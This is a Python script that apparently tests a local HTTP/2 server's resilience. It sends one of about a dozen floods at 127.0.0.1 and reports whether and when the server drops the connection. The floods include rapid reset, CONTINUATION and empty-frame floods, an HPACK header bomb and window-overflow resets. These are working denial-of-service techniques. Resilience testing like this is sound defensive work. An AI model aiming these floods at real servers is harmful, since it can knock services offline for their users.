"""Floods of HTTP/2, one a run: `floods.py KIND PORT TLS TOKEN`.

Prints one line of JSON: whether the connection was closed, after how many seconds, and what was sent until then. The
connection, its settings and its headers are h2's; frames that h2 would not send are built with hyperframe.
"""

import json
import select
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.settings
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

KIND, PORT, TLS, TOKEN = sys.argv[1], int(sys.argv[2]), sys.argv[3] == "tls", sys.argv[4]
PATIENCE = 20


def connect():
    plain = socket.create_connection(("127.0.0.1", PORT))
    plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if not TLS:
        return plain
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    secured = context.wrap_socket(plain)
    assert secured.selected_alpn_protocol() == "h2"
    return secured


class Flood:
    def __init__(self):
        self.socket = connect()
        config = h2.config.H2Configuration(
            client_side=True,
            validate_outbound_headers=False,
            normalize_outbound_headers=False,
        )
        self.h2 = h2.connection.H2Connection(config)
        self.h2.initiate_connection()
        self.socket.sendall(self.h2.data_to_send())
        # The server's settings, and its word that ours are taken.
        self.h2.receive_data(self.socket.recv(65536))
        self.socket.sendall(self.h2.data_to_send())
        self.socket.setblocking(False)
        self.stream = -1
        self.sent = 0

    def headers(self, **more):
        """A request that a system behind is asked for."""
        self.serial = getattr(self, "serial", 0) + 1
        named = {
            ":method": "GET",
            ":path": f"/v1/pets?limit=1&offset={self.serial % 400}",
            ":scheme": "https" if TLS else "http",
            ":authority": f"127.0.0.1:{PORT}",
            "authorization": f"Bearer {TOKEN}",
        }
        named.update(more)
        return list(named.items())

    def next_stream(self):
        self.stream += 2
        return self.stream

    def block(self, fields):
        return self.h2.encoder.encode(fields)

    def request(self, end=True, **more):
        stream = self.next_stream()
        flags = ["END_HEADERS", "END_STREAM"] if end else ["END_HEADERS"]
        return HeadersFrame(stream, self.block(self.headers(**more)), flags=flags).serialize()

    def run(self):
        begun = time.monotonic()
        pieces = getattr(self, KIND.replace("-", "_"))()
        pending = b""
        while time.monotonic() - begun < PATIENCE:
            if not pending:
                pending = next(pieces, b"")
                self.sent += bool(pending)
            wanted = [self.socket] if pending else []
            readable, writable, _ = select.select([self.socket], wanted, [], 0.05)
            try:
                if readable and not self.read():
                    return self.closed(begun)
                if writable:
                    pending = pending[self.socket.send(pending) :]
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                continue
            except OSError:
                return self.closed(begun)
        return {"closed": False, "after": time.monotonic() - begun, "sent": self.sent}

    def read(self):
        try:
            return self.socket.recv(65536) != b""
        except (ssl.SSLWantReadError, BlockingIOError):
            return True

    def closed(self, begun):
        return {"closed": True, "after": round(time.monotonic() - begun, 3), "sent": self.sent}

    # Each yields bytes for as long as they are taken.

    def rapid_reset(self):
        while True:
            yield self.request() + RstStreamFrame(self.stream, error_code=8).serialize()

    def continuation(self):
        stream = self.next_stream()
        block = self.block(self.headers())
        yield HeadersFrame(stream, block, flags=["END_STREAM"]).serialize()
        serial = 0
        while True:
            serial += 1
            yield ContinuationFrame(stream, self.block([(f"x-{serial}", "y" * 20)])).serialize()

    def empty_continuation(self):
        stream = self.next_stream()
        yield HeadersFrame(stream, self.block(self.headers()), flags=["END_STREAM"]).serialize()
        while True:
            yield ContinuationFrame(stream, b"").serialize()

    def settings(self):
        while True:
            value = {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 65535}
            yield SettingsFrame(0, settings=value).serialize()

    def ping(self):
        while True:
            yield PingFrame(0, b"12345678").serialize()

    def empty_data(self):
        yield self.request(end=False, **{":method": "POST", ":path": "/v1/pets", "content-type": "application/json"})
        while True:
            yield DataFrame(self.stream, b"").serialize()

    def padded_data(self):
        yield self.request(end=False, **{":method": "POST", ":path": "/v1/pets", "content-type": "application/json"})
        while True:
            yield DataFrame(self.stream, b"", pad_length=8, flags=["PADDED"]).serialize()

    def window_update(self):
        yield self.request()
        while True:
            yield WindowUpdateFrame(0, window_increment=1).serialize()

    def priority(self):
        stream = 1
        while True:
            stream = stream % 10_000 + 2
            yield PriorityFrame(stream, depends_on=0, stream_weight=7, exclusive=True).serialize()

    def header_bomb(self):
        # One large field is put into the table once, and named by a byte each many times.
        named = ("x-bomb", "y" * 4000)
        yield self.request(**{named[0]: named[1]})
        while True:
            stream = self.next_stream()
            block = self.block(self.headers()) + self.block([named]) * 4000
            yield HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]).serialize()

    def made_you_reset(self):
        # The server has to reset the stream itself: its window is made larger than windows can be.
        while True:
            yield (
                self.request()
                + WindowUpdateFrame(self.stream, window_increment=2**31 - 1).serialize()
            )

    def unknown(self):
        while True:
            yield b"\x00\x00\x01\xee\x00\x00\x00\x00\x00x"


print(json.dumps(Flood().run()))
